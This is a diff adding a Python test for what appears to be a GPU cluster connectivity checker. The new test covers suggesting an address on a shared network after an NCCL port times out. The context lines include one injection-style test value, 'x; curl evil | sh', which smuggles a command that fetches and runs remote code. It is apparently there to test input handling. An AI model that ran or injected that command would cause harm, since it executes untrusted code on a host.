@@ -352,6 +352,18 @@ def test_closed_ports_beside_the_task_port_are_an_error_of_nccl() -> None:
     assert (failure.host, failure.check) == ("b", "nccl")
 
 
+def test_another_address_in_a_common_network_is_suggested() -> None:
+    bridge = {"name": "docker0", "ip": "172.17.0.1"}
+    of_one = [{"name": "wg0", "ip": "10.8.0.1"}, {"name": "ib0", "ip": "10.1.0.1"}, bridge]
+    of_two = [{"name": "ib0", "ip": "10.1.0.2"}, bridge]
+    one = report("gpu-01", host__address="10.8.0.1", facts__addresses=of_one)
+    two = report("gpu-02", host__address="10.1.0.2", facts__addresses=of_two)
+    for resolved, suggested in (("10.8.0.1", True), ("10.1.0.1", False)):
+        pair = PairReported("gpu-02", "gpu-01", f"{resolved}:2222", False, None, False, "timed out", resolved)
+        (failure,) = [each for each in examined(one, two, pairs=[pair]) if each.level is F]
+        assert ('set `address` to "10.1.0.1", in a network of gpu-02' in failure.hint) == suggested, failure
+
+
 EVIL = "x; curl evil | sh"
 MORE = [{"name": "ib0", "ip": "10.1.0.1"}, {"name": "ib1", "ip": "10.2.0.1"}]
 
